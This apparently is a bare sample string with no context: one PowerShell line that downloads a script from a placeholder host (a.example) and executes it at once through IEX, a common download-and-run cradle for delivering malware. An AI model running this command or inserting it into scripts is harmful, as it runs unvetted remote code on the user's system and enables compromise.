IEX (New-Object Net.WebClient).DownloadString("http://a.example/x")
